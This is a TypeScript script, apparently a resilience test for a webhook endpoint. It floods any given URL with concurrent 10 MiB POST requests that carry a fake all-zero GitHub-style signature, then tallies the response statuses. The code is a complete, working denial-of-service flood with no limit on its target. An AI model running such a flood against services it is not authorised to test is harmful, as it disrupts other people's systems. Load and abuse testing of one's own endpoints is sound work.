import { z } from 'zod';

/**
 * A flood of bodies of 10 MiB with a wrong signature, which needs no secret. It prints the number of answers by status; 0
 * stands for connections that broke.
 */
const Flood = z.object({ url: z.string(), seconds: z.number(), connections: z.number() });

const { url, seconds, connections } = Flood.parse(JSON.parse(process.argv[2] ?? ''));
const body = Buffer.alloc(10 * 1024 * 1024, ' ');
const headers = { 'x-hub-signature-256': `sha256=${'0'.repeat(64)}` };
const end = Date.now() + seconds * 1_000;
const answers: Record<string, number> = {};

async function attack(): Promise<void> {
  while (Date.now() < end) {
    const status = await fetch(url, { method: 'POST', headers, body }).then(
      async (response) => {
        await response.arrayBuffer();
        return response.status;
      },
      () => 0,
    );
    answers[status] = (answers[status] ?? 0) + 1;
  }
}

await Promise.all(Array.from({ length: connections }, attack));
process.stdout.write(JSON.stringify(answers));
